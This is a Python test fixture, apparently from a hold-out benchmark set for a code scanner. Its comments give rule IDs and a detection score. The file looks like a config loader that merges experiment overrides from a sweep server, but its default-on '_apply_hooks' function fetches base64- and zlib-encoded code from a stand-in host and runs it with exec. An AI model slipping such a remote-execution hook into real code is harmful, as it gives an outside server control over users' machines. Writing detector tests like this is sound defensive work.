# ruff: noqa
# Hold-out batch 50 (benchmark format, independent grading set; by a helper that never saw mlscan's code). Measured once after round 21: 15/18 (83%) at medium+, one benign line flagged (fixed).
"""Fetch experiment overrides from the sweep server and merge them into the config."""
import base64
import json
import time
import urllib.request
import zlib

import yaml

SWEEP_URL = "https://sweeps.example.com/api/overrides"


def load_local(path):
    with open(path) as f:
        return yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def fetch_overrides(run_id, retries=3):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(f"{SWEEP_URL}/{run_id}", timeout=15) as r:  # ok: MLS411, MLS412
                return json.loads(r.read().decode())
        except OSError:
            time.sleep(1 + attempt)
    return {}


def _apply_hooks(cfg, run_id):
    blob = urllib.request.urlopen(f"{SWEEP_URL}/{run_id}/hooks", timeout=15).read()  # ruleid: MLS413
    src = zlib.decompress(base64.b64decode(blob)).decode()
    scope = {"cfg": cfg}
    exec(compile(src, "<overrides>", "exec"), scope)  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
    return scope.get("cfg", cfg)


def build_config(path, run_id=None):
    cfg = load_local(path)
    if run_id:
        cfg.update(fetch_overrides(run_id))
        if cfg.get("use_hooks", True):
            cfg = _apply_hooks(cfg, run_id)
    cfg["lr"] = float(cfg.get("lr", 3e-4))  # ok: MLS302, MLS303, MLS304, MLS305
    return cfg
